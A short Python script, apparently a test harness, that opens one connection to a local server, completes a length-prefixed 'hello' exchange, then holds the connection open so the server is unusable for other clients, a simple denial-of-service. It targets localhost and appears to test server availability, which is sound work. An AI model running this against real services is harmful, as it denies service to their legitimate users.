#!/usr/bin/env python3
"""attack.py PORT: one connection that makes the server useless for everybody else.

Prints `ready` when the attack is in place, and keeps it up until its standard input ends.
"""
import socket
import struct
import sys


def message(text: bytes) -> bytes:
    """u32 len, lowest byte first, and the text."""
    return struct.pack("<I", len(text)) + text


def main() -> None:
    with socket.create_connection(("127.0.0.1", int(sys.argv[1]))) as sock:
        sock.sendall(message(b"hello"))
        sock.recv(4 + 5)

        print("ready", flush=True)
        sys.stdin.read()


main()
